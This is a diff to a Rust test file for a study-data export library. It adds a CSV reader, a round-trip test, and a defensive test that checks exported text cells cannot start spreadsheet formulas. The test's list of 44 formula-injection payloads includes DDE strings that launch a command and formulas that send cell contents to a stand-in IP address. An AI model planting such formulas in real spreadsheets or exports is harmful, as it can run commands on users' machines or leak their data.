@@ -4,7 +4,7 @@ mod common;
 
 use common::{DEVICE, Simulant, service, walk};
 use equipoise_study::event::{Event, ItemAnswer};
-use equipoise_study::export::{Cell, Kind, Table, answers, psych_ds, questionnaire};
+use equipoise_study::export::{Cell, Column, Kind, Table, answers, psych_ds, questionnaire};
 use equipoise_study::log::MemoryStore;
 use equipoise_study::study::Position;
 use equipoise_study::{Step, Study, template};
@@ -41,11 +41,61 @@ fn random_rows(table: &Table, count: usize, seed: u64) -> Table {
     Table { rows, ..table.clone() }
 }
 
+/// What a reader of comma-separated values gets that knows the columns.
+fn from_csv(table: &Table) -> Table {
+    let text = table.csv();
+    let mut records = records(&text);
+    let header: Vec<String> = records.next().unwrap().into_iter().map(|(cell, _)| cell).collect();
+    assert_eq!(header, table.columns.iter().map(|column| column.name).collect::<Vec<_>>());
+    let rows = records.map(|record| {
+        assert_eq!(record.len(), table.columns.len(), "{record:?}");
+        let cells = record.iter().zip(table.columns);
+        cells.map(|((cell, quoted), column)| value(cell, *quoted, column.kind).unwrap()).collect()
+    });
+    Table { rows: rows.collect(), ..table.clone() }
+}
+
+fn value(cell: &str, quoted: bool, kind: Kind) -> Option<Cell> {
+    if cell.is_empty() && !quoted {
+        return Some(if kind == Kind::Counts { Cell::Counts(vec![]) } else { Cell::Nothing });
+    }
+    match kind {
+        Kind::Whole => cell.parse().ok().map(Cell::Whole),
+        Kind::Real => cell.parse().ok().map(Cell::Real),
+        Kind::Time => cell.parse().ok().map(Cell::Time),
+        Kind::Text => Some(Cell::Text(cell.strip_prefix('\'').unwrap_or(cell).to_owned())),
+        Kind::Counts => {
+            cell.split(' ').map(|n| n.parse().ok()).collect::<Option<Vec<u64>>>().map(Cell::Counts)
+        }
+    }
+}
+
+/// Records of cells, and whether each was in quotes.
+fn records(text: &str) -> impl Iterator<Item = Vec<(String, bool)>> {
+    let mut letters = text.chars().peekable();
+    std::iter::from_fn(move || {
+        letters.peek()?;
+        let mut record = vec![];
+        let (mut cell, mut quoted, mut inside) = (String::new(), false, false);
+        while let Some(letter) = letters.next() {
+            match letter {
+                '"' if inside && letters.next_if_eq(&'"').is_some() => cell.push('"'),
+                '"' => (quoted, inside) = (true, !inside),
+                ',' if !inside => record.push((std::mem::take(&mut cell), std::mem::take(&mut quoted))),
+                '\n' if !inside => break,
+                letter => cell.push(letter),
+            }
+        }
+        record.push((cell, quoted));
+        Some(record)
+    })
+}
+
 fn from_json(table: &Table) -> Table {
     let text = table.json_lines();
     let rows = text.lines().map(|line| {
         let object: Value = serde_json::from_str(line).unwrap();
-        let cell = |column: &equipoise_study::export::Column| match (&object[column.name], column.kind) {
+        let cell = |column: &Column| match (&object[column.name], column.kind) {
             (Value::Null, _) => Cell::Nothing,
             (value, Kind::Whole) => Cell::Whole(value.as_u64().unwrap()),
             (value, Kind::Real) => Cell::Real(value.as_f64().unwrap()),
@@ -91,9 +141,8 @@ fn from_parquet(table: &Table) -> Table {
 fn a_hundred_thousand_rows_are_the_same_in_every_format() {
     for (table, count) in [(empty(answers), 100_000), (empty(questionnaire), 20_000)] {
         let table = random_rows(&table, count, 3);
-        let csv = Table::from_csv(table.name, table.columns, &table.csv()).unwrap();
         for (format, read) in
-            [("CSV", csv), ("JSON Lines", from_json(&table)), ("Parquet", from_parquet(&table))]
+            [("CSV", from_csv(&table)), ("JSON Lines", from_json(&table)), ("Parquet", from_parquet(&table))]
         {
             assert_eq!(read.rows.len(), count, "{format}");
             for (n, (read, written)) in read.rows.iter().zip(&table.rows).enumerate() {
@@ -102,6 +151,72 @@ fn a_hundred_thousand_rows_are_the_same_in_every_format() {
         }
         println!("{count} rows of {}: CSV, JSON Lines and Parquet agree", table.name);
     }
+}
+
+/// What has been used to make spreadsheets compute, fetch or start something, and neighbours of it.
+const PAYLOADS: [&str; 44] = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-cmd|' /C calc'!A0",
+    "@cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"open\")",
+    "=IMPORTXML(\"http://192.0.2.1\",\"//a\")",
+    "=IMPORTFEED(\"http://192.0.2.1\")",
+    "=IMPORTHTML(\"http://192.0.2.1\",\"table\",1)",
+    "=IMPORTRANGE(\"x\",\"A1\")",
+    "=IMPORTDATA(\"http://192.0.2.1\")",
+    "=IMAGE(\"http://192.0.2.1/x.png\")",
+    "=WEBSERVICE(\"http://192.0.2.1\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=MSEXCEL|'\\..\\..\\x.exe'!''",
+    "=rundll32|'URL.dll,OpenURL x'!A",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    " =1+1",
+    "  +1",
+    "\u{a0}=1+1",
+    "\u{feff}=1+1",
+    "\u{ff1d}1+1",
+    "\u{ff0b}1",
+    "\u{ff0d}1",
+    "\u{ff20}SUM(1)",
+    "'=1+1",
+    "''=1",
+    "\"=1+1",
+    "\";=1+1;\"",
+    "x\",=1+1,\"",
+    "x\n=1+1",
+    "x\r=1+1",
+    "=1+1\";calc|A!Z;\"",
+    "-2+3+cmd|' /C calc'!D2",
+    "+-=@x",
+    "=",
+    "=SUM(1;2),=3",
+    "@x,\"y\"\n=z",
+];
+
+#[test]
+fn no_payload_begins_a_cell_and_every_text_comes_back() {
+    const ONE: [Column; 1] = [Column { name: "text", kind: Kind::Text, description: "" }];
+    // Signs that begin a formula, also in the wide forms of East Asian keyboards.
+    let begins = |c: char| "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(c);
+    for payload in PAYLOADS {
+        let table = Table { name: "x", columns: &ONE, rows: vec![vec![Cell::Text(payload.to_owned())]] };
+        assert_eq!(from_csv(&table), table, "{payload:?}");
+        // A reader sees one cell, and what it sees does not begin like a formula.
+        let text = table.csv();
+        let cells = records(&text).nth(1).unwrap();
+        assert_eq!(cells.len(), 1, "{payload:?} became {text:?}");
+        let seen = cells[0].0.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
+        assert!(!seen.starts_with(begins), "{payload:?} became {text:?}");
+    }
+    println!("{} payloads", PAYLOADS.len());
 }
 
 #[test]
